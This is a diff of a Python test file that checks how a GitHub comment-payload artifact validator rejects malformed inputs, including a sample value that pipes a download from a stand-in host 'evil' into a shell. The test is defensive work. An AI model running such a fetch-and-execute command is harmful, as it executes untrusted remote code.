@@ -15,7 +15,7 @@ from catalog_sync.github.artifact import MAX_PAYLOAD_BYTES
 from catalog_sync.github.artifact import CommentPayload
 from catalog_sync.github.artifact import build_payload
 from catalog_sync.github.artifact import read_payloads
-from catalog_sync.github.artifact import verify_pull_request
+from catalog_sync.github.provenance import verify_pull_request
 
 SHA = "c0ffee" + "0" * 34
 
@@ -27,7 +27,7 @@ def _write(folder: Path, payload: dict[str, Any], name: str = "comment.json") ->
 
 def _payload(**changes: Any) -> dict[str, Any]:
     payload = build_payload(
-        pull_request=12, head_sha=SHA, environment="staging", body="### plan"
+        pull_request=12, head_sha=SHA, environment="staging", plan=None
     )
     payload.update(changes)
     return payload
@@ -48,7 +48,6 @@ def test_valid_payloads_from_several_environments_are_read(tmp_path):
         ({"pull_request": True}, "pull_request"),
         ({"head_sha": "HEAD"}, "head_sha"),
         ({"environment": "prod -->"}, "environment"),
-        ({"format_version": 3}, "format_version"),
         ({"run": "curl evil | sh"}, "(root)"),
     ],
 )
@@ -93,7 +92,9 @@ def test_schema_error_text_is_one_line_so_it_cannot_inject_workflow_commands(tmp
 
 
 def _claim(number: int = 12, sha: str = SHA) -> CommentPayload:
-    return CommentPayload(pull_request=number, head_sha=sha, environment="s", body="b")
+    return CommentPayload(
+        pull_request=number, head_sha=sha, environment="s", preview="validation-only"
+    )
 
 
 def test_verify_accepts_the_open_pull_request_whose_head_is_the_run(
